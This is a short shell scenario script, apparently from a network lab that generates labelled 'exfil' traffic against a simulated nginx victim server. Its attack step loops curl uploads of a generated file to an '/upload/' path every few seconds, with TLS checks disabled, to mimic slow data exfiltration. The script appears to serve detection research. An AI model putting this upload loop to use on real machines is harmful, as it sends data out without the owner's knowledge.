# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-curl
# needs: curl nginx
# seconds: 180
# Small posts for minutes, each a piece.
. $lab/victims.sh

servers() {
	_port=$(choose 80 443)
	victim_site s "$_port"
}

scenario() {
	_gap=$(choose 1 2 4)
	_size=$(choose 8000 30000 90000)
	_scheme=http
	[ "$_port" = 80 ] || _scheme=https
	mix benign/web-many-hosts
	setting options "$_size bytes every $_gap s by $_scheme"
	blob "$work/piece" "$_size"
	# shellcheck disable=SC2016
	attack e s tcp "$_port" -- timeout 160 sh -c 'while :; do
		curl -sk -o /dev/null -T "$1" "$2/upload/$(date +%N)"; sleep "$3"; done' sh \
		"$work/piece" "$_scheme://$(addr s)" "$_gap"
}
